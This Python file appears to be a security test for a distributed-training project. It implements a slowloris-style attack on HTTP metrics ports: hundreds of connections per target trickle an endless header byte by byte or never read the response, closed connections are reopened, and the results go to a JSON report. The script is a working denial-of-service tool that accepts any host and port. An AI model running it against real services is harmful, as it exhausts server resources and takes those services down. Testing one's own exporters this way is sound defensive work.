"""Slow HTTP clients on metrics ports: what a stranger does to an exporter that serves each connection on a thread
of its own without a timeout.

For each target it holds ``--connections`` connections, half of them sending a request a byte at a time (a header
that never ends, one byte every ``--trickle-s`` per connection: within any per-read timeout), half sending a whole
request and never reading the answer; every connection the server closes is opened again (at most ``--rate`` a
second per target), for ``--seconds``. It imports nothing of disttrain. Writes a JSON report::

    python tests/security/slowloris.py 127.0.0.1:9400,127.0.0.1:9401 --seconds 10 --report /tmp/slow.json
"""

from __future__ import annotations

import argparse
import collections
import json
import resource
import socket
import time
from typing import Any, Optional

REQUEST_HEAD = b"GET /metrics HTTP/1.1\r\nHost: metrics\r\nX-Slow: "
PASS_S = 0.05
TCP_ESTABLISHED = 1
"""``tcpi_state`` (Linux) while neither side has closed."""
WHOLE_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: metrics\r\nAccept-Encoding: identity\r\n\r\n"


class Client:
    def __init__(self, address: tuple[str, int], trickle: bool) -> None:
        self.address = address
        self.trickle = trickle
        self.sock: Optional[socket.socket] = None
        self.sent = 0

    def open(self) -> bool:
        sock = socket.socket()
        sock.settimeout(1.0)
        try:
            sock.connect(self.address)
            if not self.trickle:
                sock.sendall(WHOLE_REQUEST)  # and never read the answer
        except OSError:
            sock.close()
            return False
        sock.setblocking(False)
        self.sock, self.sent = sock, 0
        return True

    def alive(self) -> bool:
        """Whether the server has not closed it (the kernel's TCP state; an answer, if any, is left unread)."""
        assert self.sock is not None
        try:
            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        except OSError:
            return False
        return state == TCP_ESTABLISHED

    def step(self) -> bool:
        """The next byte of a trickler's request; False when the server has closed the connection."""
        assert self.sock is not None
        byte = REQUEST_HEAD[self.sent : self.sent + 1] or b"a"
        try:
            self.sock.send(byte)
        except OSError:
            return False
        self.sent += 1
        return self.alive()

    def close(self) -> None:
        if self.sock is not None:
            self.sock.close()
            self.sock = None


def attack(targets: list[tuple[str, int]], args: argparse.Namespace) -> dict[str, Any]:
    counts: dict[str, collections.Counter[str]] = {f"{h}:{p}": collections.Counter() for h, p in targets}
    waiting: dict[str, collections.deque[Client]] = {
        f"{h}:{p}": collections.deque(Client((h, p), n % 2 == 0) for n in range(args.connections)) for h, p in targets
    }
    """Per target, the connections to open, first come first served: the first open, then each as it is closed."""
    held: list[tuple[str, Client]] = []
    most_open: collections.Counter[str] = collections.Counter()
    start = time.monotonic()
    next_trickle = 0.0
    while time.monotonic() - start < args.seconds:
        for name, queue in waiting.items():
            for _ in range(min(len(queue), max(1, int(args.rate * PASS_S)))):
                client = queue.popleft()
                if client.open():
                    counts[name]["opened"] += 1
                    held.append((name, client))
                else:
                    counts[name]["refused"] += 1
                    queue.append(client)
        now = time.monotonic()
        trickle_now = now >= next_trickle
        if trickle_now:
            next_trickle = now + args.trickle_s
        open_now: collections.Counter[str] = collections.Counter()
        still_held = []
        for name, client in held:
            if client.step() if (trickle_now and client.trickle) else client.alive():
                open_now[name] += 1
                still_held.append((name, client))
            else:
                counts[name]["closed by the server"] += 1
                client.close()
                waiting[name].append(client)
        held = still_held
        for name, n in open_now.items():
            most_open[name] = max(most_open[name], n)
        time.sleep(PASS_S)
    for _, client in held:
        client.close()
    return {
        "seconds": round(time.monotonic() - start, 2),
        "targets": {name: {**counts[name], "most open": most_open[name]} for name in counts},
    }


def main(argv: Optional[list[str]] = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument("targets", help="HOST:PORT of each metrics port, joined by commas")
    parser.add_argument("--connections", type=int, default=300, help="per target (default 300)")
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--trickle-s", type=float, default=0.5, help="between two bytes of a trickler (default 0.5)")
    parser.add_argument("--rate", type=float, default=100.0, help="new connections a second per target (default 100)")
    parser.add_argument("--report", help="write the JSON report here")
    args = parser.parse_args(argv)
    targets = []
    for text in args.targets.split(","):
        host, sep, port = text.rpartition(":")
        if not sep or not port.isdigit():
            parser.error(f"target {text!r} is not HOST:PORT")
        targets.append((host, int(port)))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = len(targets) * args.connections + 64
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, need), hard), hard))
    report = attack(targets, args)
    if args.report:
        with open(args.report, "w", encoding="utf-8") as out:
            json.dump(report, out, indent=1)
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
